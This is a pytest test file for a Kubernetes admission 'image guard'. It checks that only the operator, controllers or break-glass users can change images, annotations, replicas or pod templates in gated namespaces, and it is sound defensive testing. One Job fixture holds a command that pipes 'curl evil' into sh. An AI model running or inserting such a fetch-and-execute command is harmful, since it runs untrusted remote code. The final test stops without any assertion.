"""The image guard's verdict on the operator's own image changes (pure): only for a live cycle's image."""

from __future__ import annotations

import copy
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lockgate.admission import imageguard, stamping

OPERATOR = "system:serviceaccount:lockgate-system:lockgate-operator"
CYCLE = "sha256:" + "1" * 64


def workload(image: str, annotations: dict[str, str] | None = None) -> dict[str, Any]:
    return {
        "metadata": {"name": "web", "namespace": "production", "annotations": annotations or {}},
        "spec": {"template": {"spec": {"containers": [{"name": "web", "image": image}]}}},
    }


def promotion(phase: str, image: str = "web:2") -> dict[str, Any]:
    return {
        "metadata": {"name": "web-2", "namespace": "production"},
        "spec": {"target": {"kind": "Deployment", "name": "web", "container": "web"}, "image": image},
        "status": {"phase": phase, "specHash": CYCLE},
    }


def judge(promo: dict[str, Any], *, image: str = "web:2", spec_hash: str = CYCLE) -> imageguard.Verdict:
    annotations = {
        imageguard.ANNOTATION_PROMOTION: "production/web-2",
        imageguard.ANNOTATION_OPERATION: "deploy",
        imageguard.ANNOTATION_SPEC_HASH: spec_hash,
    }
    return imageguard.judge(
        kind="Deployment",
        namespace="production",
        name="web",
        old=workload("web:1"),
        new=workload(image, annotations),
        user=stamping.User(OPERATOR, ()),
        namespace_gated=True,
        operator_identity=OPERATOR,
        break_glass_groups=(),
        promotion=promo,
    )


@pytest.mark.parametrize("phase", ["Pending", "AwaitingApproval", "Approved", "Deploying"])
def test_the_operator_may_deploy_the_current_cycle_while_its_deploying_status_is_on_the_way(phase: str) -> None:
    assert judge(promotion(phase)).allowed


@pytest.mark.parametrize("phase", ["Succeeded", "Failed", "Rejected", "Superseded", "RolledBack"])
def test_the_operator_may_not_deploy_for_a_promotion_that_is_not_approved_or_deploying(phase: str) -> None:
    verdict = judge(promotion(phase))
    assert not verdict.allowed and verdict.reason == "NoActivePromotion"


def test_the_operator_may_deploy_the_current_spec_of_a_promotion_with_no_status_yet() -> None:
    """Approved before the operator's first status write landed (a restart): the spec's own cycle."""
    promo = promotion("")
    del promo["status"]
    current = stamping.current_spec_hash(promo)
    assert judge(promo, spec_hash=current).allowed
    assert not judge(promo, spec_hash=CYCLE).allowed
    assert not judge(promo, spec_hash=current, image="web:3").allowed


def test_a_first_status_that_only_says_the_audit_sink_was_down_still_lets_the_decided_deploy_through() -> None:
    promo = promotion("")
    promo["status"] = {"auditRecorded": False, "message": "audit sink sqlite is unavailable"}
    current = stamping.current_spec_hash(promo)
    assert judge(promo, spec_hash=current).allowed
    assert not judge(promo, spec_hash=CYCLE).allowed


def test_the_operator_may_not_deploy_another_cycle_or_another_image() -> None:
    assert not judge(promotion("Approved"), spec_hash="sha256:" + "2" * 64).allowed
    assert not judge(promotion("Approved"), image="web:3").allowed
    assert not judge(None).allowed  # type: ignore[arg-type]


# Every kind that runs containers: who may change its images in a gated namespace.

CONTROLLER = "system:serviceaccount:kube-system:replicaset-controller"
KINDS = sorted({g.kind for g in imageguard.GUARDED})


def shaped(kind: str, containers: dict[str, str], *, field: str = "containers", name: str = "web") -> dict[str, Any]:
    """An object of ``kind`` running ``containers`` (name -> image) in its pod spec."""
    pod = {field: [{"name": c, "image": i} for c, i in containers.items()]}
    spec: dict[str, Any] = dict(pod) if kind == "Pod" else {"template": {"spec": pod}}
    if kind == "CronJob":
        spec = {"schedule": "@hourly", "jobTemplate": {"spec": spec}}
    return {"metadata": {"name": name, "namespace": "production"}, "spec": spec}


def verdict(
    kind: str, old: dict[str, Any], new: dict[str, Any], username: str, *groups: str, subresource: str | None = None
) -> imageguard.Verdict:
    return imageguard.judge(
        kind=kind,
        namespace="production",
        name="web",
        old=old,
        new=new,
        user=stamping.User(username, tuple(groups)),
        namespace_gated=True,
        operator_identity=OPERATOR,
        break_glass_groups=("oncall-leads",),
        promotion=None,
        subresource=subresource,
    )


@pytest.mark.parametrize(
    ("kind", "reason"),
    [
        ("Deployment", "PromotionRequired"),
        ("StatefulSet", "PromotionRequired"),
        ("DaemonSet", "PromotionRequired"),
        ("ReplicaSet", "PromotionRequired"),
        ("Pod", "PromotionRequired"),
        ("Job", "PromotionRequired"),
        ("CronJob", "NotPromotable"),
        ("ReplicationController", "NotPromotable"),
    ],
)
def test_a_users_image_change_is_refused_for_every_kind_that_runs_containers(kind: str, reason: str) -> None:
    got = verdict(kind, shaped(kind, {"web": "web:1"}), shaped(kind, {"web": "web:6.6.6"}), "alice")
    assert not got.allowed and got.reason == reason
    assert "web: web:1 -> web:6.6.6" in got.message
    # What to do instead: a Promotion of this workload, or (no Promotion can) of its owner, or break-glass.
    assert ("Create one: kubectl apply -f promotion.yaml" in got.message) == (kind in imageguard.PROMOTABLE)
    assert ("break-glass" in got.message) == (kind not in imageguard.PROMOTABLE)


@pytest.mark.parametrize("kind", KINDS)
def test_a_new_workload_of_any_kind_is_refused_and_break_glass_may_create_it(kind: str) -> None:
    refused = verdict(kind, {}, shaped(kind, {"web": "evil:1"}), "alice")
    assert not refused.allowed and refused.reason == "NewWorkloadInGatedNamespace"
    assert "would run images nobody approved" in refused.message
    glass = verdict(kind, {}, shaped(kind, {"web": "evil:1"}), "dan", "oncall-leads")
    assert glass.allowed and glass.emergency


@pytest.mark.parametrize("kind", ["ReplicaSet", "Pod", "Job"])
def test_kubernetes_controllers_make_derived_workloads_from_their_owners(kind: str) -> None:
    made = verdict(kind, {}, shaped(kind, {"web": "web:2"}), CONTROLLER)
    assert made.allowed and made.reason == "WorkloadController" and not made.emergency


@pytest.mark.parametrize("kind", ["Deployment", "StatefulSet", "DaemonSet", "CronJob", "ReplicationController"])
def test_a_controller_identity_cannot_change_an_owners_images(kind: str) -> None:
    got = verdict(kind, shaped(kind, {"web": "web:1"}), shaped(kind, {"web": "web:2"}), CONTROLLER)
    assert not got.allowed


@pytest.mark.parametrize("kind", ["ReplicaSet", "Pod", "Job", "CronJob", "ReplicationController"])
def test_the_operator_has_no_say_over_kinds_it_does_not_roll_out(kind: str) -> None:
    got = verdict(kind, shaped(kind, {"web": "web:1"}), shaped(kind, {"web": "web:2"}), OPERATOR)
    assert not got.allowed and got.reason != "PromotionRollout"


def _cronjob_run(image: str, *, uid: str = "uid-1", **container: Any) -> tuple[dict[str, Any], dict[str, Any]]:
    """(a CronJob running report:1, a Job naming it as controller by ``uid`` that runs ``image``)."""
    cron = shaped("CronJob", {"report": "report:1"}, name="nightly")
    cron["metadata"]["uid"] = "uid-1"
    run = shaped("Job", {"report": image}, name="nightly-now")
    run["spec"]["template"]["spec"]["containers"][0].update(container)
    run["metadata"]["ownerReferences"] = [
        {"apiVersion": "batch/v1", "kind": "CronJob", "name": "nightly", "uid": uid, "controller": True}
    ]
    return cron, run


def _with(obj: dict[str, Any], path: list[Any], value: Any) -> dict[str, Any]:
    """A copy of ``obj`` with ``value`` at ``path``."""
    changed = copy.deepcopy(obj)
    inner = changed
    for key in path[:-1]:
        inner = inner[key]
    inner[path[-1]] = value
    return changed


def _judge_run(cron: dict[str, Any], run: dict[str, Any], username: str = "alice") -> imageguard.Verdict:
    return imageguard.judge(
        kind="Job",
        namespace="production",
        name="nightly-now",
        old={},
        new=run,
        user=stamping.User(username, ()),
        namespace_gated=True,
        operator_identity=OPERATOR,
        break_glass_groups=("oncall-leads",),
        promotion=None,
        cronjob=cron,
    )


def test_a_job_that_runs_its_cronjobs_template_as_it_is_is_a_manual_run_not_a_new_workload() -> None:
    """``kubectl create job --from=cronjob/nightly``: it runs what the schedule would, so no break-glass."""
    cron, run = _cronjob_run("report:1", resources={})  # kubectl sends empty fields the CronJob does not hold
    run["spec"]["template"]["metadata"] = {"labels": {"batch.kubernetes.io/job-name": "nightly-now"}}  # the API's
    run["spec"]["parallelism"] = 1  # defaulted on the Job, not in the CronJob's template
    assert imageguard.launching_cronjob(run) == "nightly"
    manual = _judge_run(cron, run)
    assert manual.allowed and manual.reason == "CronJobRun" and not manual.emergency
    assert "runs CronJob nightly's pod template as it is" in manual.message
    for changed in (
        _cronjob_run("report:evil")[1],
        _cronjob_run("report:1", command=["sh", "-c", "curl evil | sh"])[1],  # same image, another program
        _cronjob_run("report:1", uid="uid-2")[1],  # a CronJob of that name, but not this one
        _with(run, ["metadata", "ownerReferences", 0, "apiVersion"], "example.com/v1"),  # another kind CronJob
        _with(run, ["spec", "template", "metadata", "annotations"], {"sidecar.istio.io/proxyImage": "evil:1"}),
        _with(run, ["spec", "template", "metadata", "labels"], {"istio.io/rev": "canary"}),  # another injector
    ):
        refused = _judge_run(cron, changed)
        assert not refused.allowed and refused.reason == "NewWorkloadInGatedNamespace"
        assert "kubectl create job --from=cronjob/NAME" in refused.message
    without_owner = copy.deepcopy(run)
    del without_owner["metadata"]["ownerReferences"]
    assert imageguard.launching_cronjob(without_owner) is None
    assert not _judge_run(cron, without_owner).allowed
    assert not imageguard.judge(  # no CronJob read (gone, or unreadable): a new Job
        kind="Job",
        namespace="production",
        name="nightly-now",
        old={},
        new=run,
        user=stamping.User("alice", ()),
        namespace_gated=True,
        operator_identity=OPERATOR,
        break_glass_groups=(),
        promotion=None,
    ).allowed
    forged = copy.deepcopy(run)
    forged["metadata"]["annotations"] = {imageguard.ANNOTATION_PROMOTION: "production/web-2"}
    assert _judge_run(cron, forged).reason == "ProvenanceProtected"


def test_a_jobs_pod_template_changes_only_by_break_glass() -> None:
    """Suspended and not started, a Job's template labels and annotations may change: an injector reads them to
    choose a sidecar's image for the Pods the Job controller then makes (unjudged)."""
    job = shaped("Job", {"report": "report:1"}, name="web")
    injected = copy.deepcopy(job)
    injected["spec"]["template"]["metadata"] = {"annotations": {"sidecar.istio.io/proxyImage": "evil:1"}}
    refused = verdict("Job", job, injected, "alice")
    assert not refused.allowed and refused.reason == "JobTemplateChange"
    assert "sidecar injector" in refused.message
    glass = verdict("Job", job, injected, "dan", "oncall-leads")
    assert glass.allowed and glass.emergency and "pod template change by dan of Job web" in glass.message
    assert verdict("Job", job, injected, CONTROLLER).allowed  # the job and cronjob controllers write Jobs
    suspended = _with(job, ["spec", "suspend"], True)
    assert verdict("Job", job, suspended, "alice").allowed  # suspending or resuming changes no template


def test_a_debug_container_needs_break_glass() -> None:
    pod = shaped("Pod", {"web": "web:1"})
    debugged = shaped("Pod", {"web": "web:1"})
    debugged["spec"]["ephemeralContainers"] = [{"name": "debugger", "image": "busybox:1.36"}]
    refused = verdict("Pod", pod, debugged, "alice")
    assert not refused.allowed and refused.reason == "DebugContainerInGatedNamespace"
    assert "debugger: new container with busybox:1.36" in refused.message
    assert verdict("Pod", pod, debugged, "dan", "oncall-leads").emergency


@pytest.mark.parametrize("kind", KINDS)
def test_init_containers_are_images_too(kind: str) -> None:
    old = shaped(kind, {"setup": "setup:1"}, field="initContainers")
    new = shaped(kind, {"setup": "setup:evil"}, field="initContainers")
    assert imageguard.changed_images(kind, old, new) == [("setup", "setup:1", "setup:evil")]
    assert not verdict(kind, old, new, "alice").allowed


images = st.dictionaries(
    st.sampled_from(["web", "sidecar", "setup"]), st.sampled_from(["a:1", "a:2", "b:1", "b:9"]), min_size=1
)


@given(
    kind=st.sampled_from(KINDS),
    before=images,
    after=images,
    username=st.sampled_from(["alice", "bob", "system:serviceaccount:ci:deployer", OPERATOR, CONTROLLER]),
    new_object=st.booleans(),
    replicas=st.tuples(st.none() | st.integers(0, 5), st.none() | st.integers(0, 5)),
)
def test_in_a_gated_namespace_only_the_operator_controllers_or_break_glass_change_an_image(
    kind: str,
    before: dict[str, str],
    after: dict[str, str],
    username: str,
    new_object: bool,
    replicas: tuple[int | None, int | None],
) -> None:
    """The guard's invariant, for every kind: an image nobody approved never passes for anyone else, and
    neither does a ReplicaSet's rise in replicas (it runs the images that ReplicaSet holds) nor a hand edit of
    a ReplicaSet's or a Job's pod template (no ReplicaSet is then current; an injector may read a Job's), even one
    dropping a container."""
    old = {} if new_object else shaped(kind, before)
    new = shaped(kind, after)
    for obj, count in zip((old, new), replicas, strict=True):
        if obj and count is not None and kind != "Pod":
            obj["spec"]["replicas"] = count
    got = verdict(kind, old, new, username)
    count = {k: (c if c is not None else 1) for k, c in zip(("old", "new"), replicas, strict=True)}
    raised = kind in imageguard.SCALED and not new_object and count["new"] > count["old"]
    edited = kind in ("ReplicaSet", "Job") and not new_object and old["spec"]["template"] != new["spec"]["template"]
    if edited and not imageguard.changed_images(kind, old, new) and username != CONTROLLER:
        assert not got.allowed and got.reason == f"{kind}TemplateChange"
    elif imageguard.changed_images(kind, old, new) or raised:
        may = (username == CONTROLLER and kind in imageguard.DERIVED) or (
            username == OPERATOR and kind in imageguard.PROMOTABLE and got.reason == "PromotionRollout"
        )
        assert got.allowed == may
    else:
        assert got.allowed


def _replica_set(replicas: int, image: str = "web:1") -> dict[str, Any]:
    rs = shaped("ReplicaSet", {"web": image}, name="web-5d4f")
    rs["metadata"]["ownerReferences"] = [{"kind": "Deployment", "name": "web", "controller": True}]
    rs["spec"]["replicas"] = replicas
    return rs


def _scale(replicas: int) -> dict[str, Any]:
    return {"kind": "Scale", "metadata": {"name": "web-5d4f"}, "spec": {"replicas": replicas} if replicas else {}}


def test_scaling_an_old_replica_set_up_needs_its_controller_or_break_glass() -> None:
    """A Deployment's old ReplicaSet still holds the image it ran: scaling it up (paused Deployment, or
    just for a moment) would run that image again with no approval covering it."""
    refused = verdict("ReplicaSet", _replica_set(0, "web:1"), _replica_set(3, "web:1"), "alice")
    assert not refused.allowed and refused.reason == "ScaleUpNeedsPromotion"
    assert "replicas 0 -> 3" in refused.message and "(web: web:1)" in refused.message
    assert "kubectl scale deployment/web" in refused.message  # what to do instead, naming its owner
    assert "an older ReplicaSet of a Deployment holds an earlier image" in refused.message
    assert not verdict("ReplicaSet", _replica_set(0), _replica_set(3), OPERATOR).allowed
    assert verdict("ReplicaSet", _replica_set(0), _replica_set(3), CONTROLLER).reason == "WorkloadController"
    assert verdict("ReplicaSet", _replica_set(3), _replica_set(0), "alice").allowed  # scaling down runs nothing
    glass = verdict("ReplicaSet", _replica_set(0), _replica_set(3), "dan", "oncall-leads")
    assert glass.allowed and glass.emergency and "replicas 0 -> 3, runs web: web:1" in glass.message


def test_a_scale_up_through_the_scale_subresource_is_refused_and_break_glass_is_sent_to_the_object() -> None:
    """``kubectl scale`` (and an autoscaler) sends only a Scale, which does not say which images it runs; the
    emergency record must, so break-glass is told to raise the replicas on the ReplicaSet itself."""
    refused = verdict("ReplicaSet", _scale(0), _scale(2), "alice", subresource="scale")
    assert not refused.allowed and refused.reason == "ScaleUpNeedsPromotion"
    glass = verdict("ReplicaSet", _scale(0), _scale(2), "dan", "oncall-leads", subresource="scale")
    assert not glass.allowed
    assert 'kubectl patch replicaset web -n production --type merge -p \'{"spec":{"replicas":2}}\'' in glass.message
    assert verdict("ReplicaSet", _scale(2), _scale(0), "alice", subresource="scale").allowed
    # No controller scales a ReplicaSet through its Scale; an autoscaler may act as kube-controller-manager.
    assert not verdict("ReplicaSet", _scale(1), _scale(5), CONTROLLER, subresource="scale").allowed


def test_a_replication_controllers_replicas_rise_only_by_break_glass() -> None:
    """No Promotion rolls a ReplicationController out: one made before the namespace was gated runs an image
    nobody approved, and scaling it up from 0 would start it."""
    old, new = shaped("ReplicationController", {"web": "web:0.1"}), shaped("ReplicationController", {"web": "web:0.1"})
    old["spec"]["replicas"], new["spec"]["replicas"] = 0, 2
    refused = verdict("ReplicationController", old, new, "alice")
    assert not refused.allowed and refused.reason == "ScaleUpNeedsPromotion" and "(web: web:0.1)" in refused.message
    assert "ReplicaSet of a Deployment" not in refused.message  # a ReplicaSet's story, not its
    assert "Run it from a Deployment, StatefulSet or DaemonSet that a Promotion rolls out" in refused.message
    assert not verdict("ReplicationController", old, new, CONTROLLER).allowed
    assert verdict("ReplicationController", old, new, "dan", "oncall-leads").emergency
    by_scale = verdict("ReplicationController", _scale(0), _scale(2), "dan", "oncall-leads", subresource="scale")
    assert not by_scale.allowed and "on the ReplicationController itself" in by_scale.message
    assert "kubectl patch replicationcontroller web -n production" in by_scale.message


def test_pausing_a_deployment_needs_break_glass_and_resuming_does_not() -> None:
    """Paused, a Deployment's controller makes no ReplicaSet from its template: if the current one goes, it
    scales the newest older one (an earlier image) back up, as the deployment controller, which passes."""
    running, paused = shaped("Deployment", {"web": "web:2"}), shaped("Deployment", {"web": "web:2"})
    paused["spec"]["paused"] = True
    refused = verdict("Deployment", running, paused, "alice")
    assert not refused.allowed and refused.reason == "PauseNeedsBreakGlass"
    assert "scale an older ReplicaSet (an earlier image" in refused.message
    assert not verdict("Deployment", running, paused, OPERATOR).allowed
    glass = verdict("Deployment", running, paused, "dan", "oncall-leads")
    assert glass.allowed and glass.emergency and "pause by dan of Deployment web (runs web: web:2)" in glass.message
    assert verdict("Deployment", paused, running, "alice").allowed  # resuming makes the template's ReplicaSet
    assert verdict("Deployment", paused, paused, "alice").allowed  # already paused: nothing new
    assert verdict("StatefulSet", running, paused, "alice").allowed  # only Deployments pause
    changed_and_paused = shaped("Deployment", {"web": "web:3"})
    changed_and_paused["spec"]["paused"] = True
    both = verdict("Deployment", running, changed_and_paused, "dan", "oncall-leads")
    assert both.emergency and "(web: web:2 -> web:3) and pause of Deployment web" in both.message  # on the record


def _deployment(image: str, *, paused: bool) -> dict[str, Any]:
    deployment = shaped("Deployment", {"web": image})
    deployment["spec"].update({"paused": paused, "selector": {"matchLabels": {"app": "web"}}})
    return deployment


def removal(
    replica_set: dict[str, Any], owner: dict[str, Any] | None, username: str, *groups: str, detached: bool = False
) -> imageguard.Verdict:
    return imageguard.judge_removal(
        namespace="production",
        name="web-5d4f",
        replica_set=replica_set,
        owner=owner,
        user=stamping.User(username, tuple(groups)),
        namespace_gated=True,
        break_glass_groups=("oncall-leads",),
        detached=detached,
    )


def test_the_replica_set_a_paused_deployment_runs_goes_only_by_break_glass() -> None:
    """Paused, the deployment controller makes no ReplicaSet from the template: if the one it runs goes, it
    scales the newest older one (an earlier image) back up, and its own write passes the guard."""
    paused, running = _deployment("web:2", paused=True), _deployment("web:2", paused=False)
    refused = removal(_replica_set(3, "web:2"), paused, "alice")
    assert not refused.allowed and refused.reason == "PausedDeploymentReplicaSet"
    assert "deleting its ReplicaSet web-5d4f (which runs it)" in refused.message
    assert "kubectl rollout resume deployment/web -n production" in refused.message
    template_made = removal(_replica_set(0, "web:2"), paused, "alice", detached=True)  # scaled to 0
    assert not template_made.allowed
    assert "relabelling or re-owning its ReplicaSet web-5d4f (which its template makes)" in template_made.message
    glass = removal(_replica_set(3, "web:2"), paused, "dan", "oncall-leads")
    assert glass.allowed and glass.emergency
    assert "deletion by dan of ReplicaSet web-5d4f of paused Deployment web (runs web: web:2)" in glass.message
    assert removal(_replica_set(3, "web:2"), running, "alice").reason == "OwnerNotPaused"  # makes a new one
    assert removal(_replica_set(3, "web:2"), None, "alice").allowed  # its Deployment is gone
    assert removal(_replica_set(0, "web:1"), paused, "alice").reason == "InactiveReplicaSet"  # history: harmless
    assert removal(_replica_set(3, "web:2"), paused, "system:kube-controller-manager").allowed  # garbage collector
    ungated = imageguard.judge_removal(
        namespace="staging",
        name="web-5d4f",
        replica_set=_replica_set(3, "web:2"),
        owner=paused,
        user=stamping.User("alice", ()),
        namespace_gated=False,
        break_glass_groups=(),
    )
    assert ungated.allowed and ungated.reason == "NotGated"


def test_the_namespace_controller_may_delete_a_replica_set_and_nothing_more() -> None:
    """Emptying a deleted namespace, it deletes everything (nothing can start there any more); it makes and
    changes no workload, so anything else it asks for is judged like anyone's."""
    paused, emptier = _deployment("web:2", paused=True), imageguard.NAMESPACE_CONTROLLER
    deleted = removal(_replica_set(3, "web:2"), paused, emptier)
    assert deleted.allowed and deleted.reason == "NamespaceDeletion" and not deleted.emergency
    assert not removal(_replica_set(3, "web:2"), paused, emptier, detached=True).allowed  # relabels: no
    assert emptier not in imageguard.KUBE_CONTROLLERS
    for kind in ("ReplicaSet", "Pod", "Job"):
        assert verdict(kind, {}, shaped(kind, {"web": "web:9"}), emptier).reason == "NewWorkloadInGatedNamespace"
    edited = verdict("ReplicaSet", _replica_set(3, "web:2"), _replica_set(3, "web:9"), emptier)
    assert not edited.allowed


def test_a_replica_set_leaves_its_deployment_when_relabelled_out_of_its_selector_or_re_owned() -> None:
    owner = _deployment("web:2", paused=True)
    tiered = [{"key": "tier", "operator": "Exists"}]
    owner["spec"]["selector"] = {"matchLabels": {"app": "web"}, "matchExpressions": tiered}

    def rs(labels: dict[str, str]) -> dict[str, Any]:
        replica_set = _replica_set(3, "web:2")
        replica_set["metadata"]["labels"] = labels
        return replica_set

    matched = {"app": "web", "tier": "front"}
    assert imageguard.leaves_owner(owner, rs(matched), rs({"app": "web"}))
    assert imageguard.leaves_owner(owner, rs(matched), rs({"app": "quarantine", "tier": "front"}))
    assert not imageguard.leaves_owner(owner, rs(matched), rs({**matched, "team": "payments"}))
    assert not imageguard.leaves_owner(owner, rs({"app": "other"}), rs({"app": "elsewhere"}))  # was never in it
    assert imageguard.owning_deployment(rs(matched)) == "web"
    assert imageguard.owning_deployment(shaped("ReplicaSet", {"web": "web:2"})) is None
    # The deployment controller ignores a ReplicaSet another controller owns: re-owning it takes it away too.
    decoy = rs(matched)
    decoy["metadata"]["ownerReferences"] = [{"kind": "ConfigMap", "name": "decoy", "controller": True}]
    assert imageguard.leaves_owner(owner, rs(matched), decoy)
    orphaned = rs(matched)
    orphaned["metadata"]["ownerReferences"] = []
    assert imageguard.leaves_owner(owner, rs(matched), orphaned)  # then re-owned unjudged: refused at once
    owner["metadata"]["uid"] = "u-web"
    claimed = rs(matched)
    claimed["metadata"]["ownerReferences"][0]["uid"] = "u-web"
    other_uid = rs(matched)
    other_uid["metadata"]["ownerReferences"][0]["uid"] = "u-gone"  # the controller claims by uid too
    assert imageguard.leaves_owner(owner, claimed, other_uid)
    assert not imageguard.leaves_owner(owner, claimed, rs(matched) | {"metadata": claimed["metadata"]})


def test_a_replica_sets_pod_template_changes_only_through_its_controller_or_break_glass() -> None:
    """Edited by hand (an env var, an annotation), the Deployment finds no current ReplicaSet: paused, a scale then
    brings back the newest older one."""
    edited = _replica_set(3, "web:2")
    edited["spec"]["template"]["metadata"] = {"annotations": {"touched": "yes"}}
    refused = verdict("ReplicaSet", _replica_set(3, "web:2"), edited, "alice")
    assert not refused.allowed and refused.reason == "ReplicaSetTemplateChange"
    assert verdict("ReplicaSet", _replica_set(3, "web:2"), edited, CONTROLLER).allowed
    glass = verdict("ReplicaSet", _replica_set(3, "web:2"), edited, "dan", "oncall-leads")
    assert glass.emergency and "pod template change by dan of ReplicaSet web" in glass.message
    assert verdict("ReplicaSet", _replica_set(3, "web:2"), _replica_set(1, "web:2"), "alice").allowed  # scale down


def test_a_paused_deployments_pod_template_changes_only_by_break_glass() -> None:
    """Paused, a changed template (an env var, say) leaves no ReplicaSet current; scaled to 0 and back, the
    controller then brings back the newest ReplicaSet by creation, after a rollback the image rolled back from."""
    paused = shaped("Deployment", {"web": "web:2"})
    paused["spec"]["paused"] = True
    edited = shaped("Deployment", {"web": "web:2"})
    edited["spec"]["paused"] = True
    edited["spec"]["template"]["spec"]["containers"][0]["env"] = [{"name": "DEBUG", "value": "1"}]
    refused = verdict("Deployment", paused, edited, "alice")
    assert not refused.allowed and refused.reason == "PausedTemplateChange"
    assert "kubectl rollout resume deployment/web -n production" in refused.message
    glass = verdict("Deployment", paused, edited, "dan", "oncall-leads")
    assert glass.emergency and "pod template change by dan of paused Deployment web" in glass.message
    scaled = shaped("Deployment", {"web": "web:2"})
    scaled["spec"].update({"paused": True, "replicas": 0})
    assert verdict("Deployment", paused, scaled, "alice").allowed  # the template's ReplicaSet comes back
    running = shaped("Deployment", {"web": "web:2"})
    unpaused_edit = shaped("Deployment", {"web": "web:2"})
    unpaused_edit["spec"]["template"]["spec"]["containers"][0]["env"] = [{"name": "DEBUG", "value": "1"}]
    assert verdict("Deployment", running, unpaused_edit, "alice").allowed  # it makes a ReplicaSet of it


def test_two_verdicts_on_one_request_refuse_if_either_does_and_record_every_emergency() -> None:
    allowed = imageguard.Verdict(True, "NoImageChange", "no container image changes")
    first = verdict("ReplicaSet", _replica_set(3, "web:1"), _replica_set(3, "web:2"), "dan", "oncall-leads")
    second = removal(_replica_set(3, "web:2"), _deployment("web:2", paused=True), "dan", "oncall-leads", detached=True)
    refused = imageguard.Verdict(False, "PausedDeploymentReplicaSet", "no")
    assert imageguard.combined(first, allowed) == first  # an ordinary allow never hides the emergency
    assert imageguard.combined(allowed, second) == second
    assert imageguard.combined(first, refused) == refused
    assert imageguard.combined(first, None) == first
    assert first.emergency and second.emergency
    both = imageguard.combined(first, second)
    assert both.emergency and both.message == (
        "break-glass change by dan (web: web:1 -> web:2); relabelling or re-owning by dan of ReplicaSet web-5d4f of "
        "paused Deployment web (runs web: web:2): recorded as an emergency change needing retro review"
    )


@given(
    replicas=st.none() | st.integers(0, 4),
    image=st.sampled_from(["web:1", "web:2"]),
    paused=st.booleans(),
    username=st.sampled_from(["alice", "system:serviceaccount:ci:deployer", OPERATOR, CONTROLLER]),
    detached=st.booleans(),
)
def test_nobody_but_the_controllers_or_break_glass_removes_what_a_paused_deployment_would_replace_with_an_older_image(
    replicas: int | None, image: str, paused: bool, username: str, detached: bool
) -> None:
    replica_set = _replica_set(0, image)
    if replicas is None:
        del replica_set["spec"]["replicas"]  # the default: one
    else:
        replica_set["spec"]["replicas"] = replicas
    got = removal(replica_set, _deployment("web:2", paused=paused), username, detached=detached)
    current = replicas != 0 or image == "web:2"  # it runs the Deployment, or its template makes it
    assert got.allowed == (not paused or not current or username == CONTROLLER)
    assert not got.emergency


@pytest.mark.parametrize("kind", KINDS)
def test_an_image_mounted_as_a_volume_is_an_image_change(kind: str) -> None:
    """ImageVolume (Kubernetes >= 1.33): an OCI image's files mounted into the pod run as code all the same."""
    old = shaped(kind, {"web": "web:1"})
    new = shaped(kind, {"web": "web:1"})
    imageguard.pod_spec(kind, new)["volumes"] = [{"name": "tools", "image": {"reference": "evil:1"}}]  # type: ignore[index]
    assert imageguard.changed_images(kind, old, new) == [("volume tools", None, "evil:1")]
    refused = verdict(kind, old, new, "alice")
    assert not refused.allowed and "volume tools: mounts evil:1" in refused.message


def _annotated(kind: str, annotations: dict[str, str]) -> dict[str, Any]:
    """A running ``kind`` (web:1) whose pod template carries ``annotations``."""
    template = {"metadata": {"annotations": annotations}, "spec": {"containers": [{"name": "web", "image": "web:1"}]}}
    spec: dict[str, Any] = (
        {"jobTemplate": {"spec": {"template": template}}} if kind == "CronJob" else {"template": template}
    )
    return {"metadata": {"name": "web", "namespace": "production", "uid": "u1"}, "spec": spec}


def _judge_annotations(
    kind: str, old: dict[str, str], new: dict[str, str], *, user: str = "dave", groups: tuple[str, ...] = ()
) -> imageguard.Verdict:
    return imageguard.judge(
        kind=kind,
        namespace="production",
        name="web",
        old=_annotated(kind, old),
        new=_annotated(kind, new),
        user=stamping.User(user, groups),
        namespace_gated=True,
        operator_identity=OPERATOR,
        break_glass_groups=("oncall",),
        promotion=None,
        image_annotations=imageguard.IMAGE_ANNOTATIONS,
    )


@pytest.mark.parametrize(
    "kind", ["Deployment", "StatefulSet", "DaemonSet", "CronJob", "ReplicationController", "ReplicaSet", "Job"]
)
@pytest.mark.parametrize(
    "key",
    ["sidecar.istio.io/proxyImage", "config.linkerd.io/proxy-image", "admission.datadoghq.com/java-lib.version"],
)
def test_an_injector_image_annotation_on_a_pod_template_changes_only_by_break_glass(kind: str, key: str) -> None:
    """An injector adds the image the annotation names to every Pod: the controller rolls them out unjudged."""
    old, new = {key: "proxy:1.20"}, {key: "evil:1"}
    refused = _judge_annotations(kind, old, new)
    assert not refused.allowed and refused.reason == "ImageAnnotationChange"
    assert f"annotation {key}: proxy:1.20 -> evil:1" in refused.message
    assert "break-glass" in refused.message and "operator.imageAnnotations" in refused.message
    added = _judge_annotations(kind, {}, new)
    assert not added.allowed and f"annotation {key}: set to evil:1" in added.message
    emergency = _judge_annotations(kind, old, new, user="olga", groups=("oncall",))
    assert emergency.allowed and emergency.emergency and f"annotation {key}" in emergency.message


def test_other_template_annotations_and_removing_an_image_annotation_pass() -> None:
    """kubectl rollout restart's annotation is no image, nor is an injector's pull policy; without the annotation
    the injector's default runs."""
    restarted = _judge_annotations("Deployment", {}, {"kubectl.kubernetes.io/restartedAt": "2026-11-26T10:00:00Z"})
    assert restarted.allowed and restarted.reason == "NoImageChange"
    for key in ("config.linkerd.io/image-pull-policy", "config.linkerd.io/debug-image-pull-policy"):
        pulled = _judge_annotations("Deployment", {key: "IfNotPresent"}, {key: "Always"})
        assert pulled.allowed and pulled.reason == "NoImageChange", key
    removed = _judge_annotations("Deployment", {"sidecar.istio.io/proxyImage": "proxy:1"}, {})
    assert removed.allowed


def test_without_image_annotations_configured_the_annotation_is_not_judged() -> None:
    verdict = imageguard.judge(
        kind="Deployment",
        namespace="production",
        name="web",
        old=_annotated("Deployment", {}),
        new=_annotated("Deployment", {"sidecar.istio.io/proxyImage": "evil:1"}),
        user=stamping.User("dave", ()),
        namespace_gated=True,
        operator_identity=OPERATOR,
        break_glass_groups=(),
        promotion=None,
    )
    assert verdict.allowed


def test_the_operator_may_not_change_an_image_annotation_in_a_rollout() -> None:
    """A Promotion approves one container's image; a patch that also changes an injector's image is refused."""
    promo = promotion("Deploying")
    old = _annotated("Deployment", {"sidecar.istio.io/proxyImage": "proxy:1"})
    new = copy.deepcopy(old)
    new["spec"]["template"]["metadata"]["annotations"]["sidecar.istio.io/proxyImage"] = "evil:1"
    new["spec"]["template"]["spec"]["containers"][0]["image"] = "web:2"
    new["metadata"]["annotations"] = {
        imageguard.ANNOTATION_PROMOTION: "production/web-2",
        imageguard.ANNOTATION_OPERATION: "deploy",
        imageguard.ANNOTATION_SPEC_HASH: CYCLE,
    }

